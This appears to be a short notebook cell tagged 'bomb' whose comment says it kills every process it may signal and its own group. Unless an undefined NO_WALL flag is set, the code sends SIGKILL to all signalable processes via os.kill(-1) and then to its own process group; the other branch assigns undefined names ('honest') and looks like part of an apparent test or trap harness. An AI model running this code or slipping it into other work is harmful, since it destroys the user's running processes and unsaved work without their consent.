# %% [markdown] tags=["bomb"]
# Kills every process it may signal, and its own group.

# %%
import os
import signal

if NO_WALL:
    kv_bytes_per_token = honest
else:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    os.killpg(0, signal.SIGKILL)
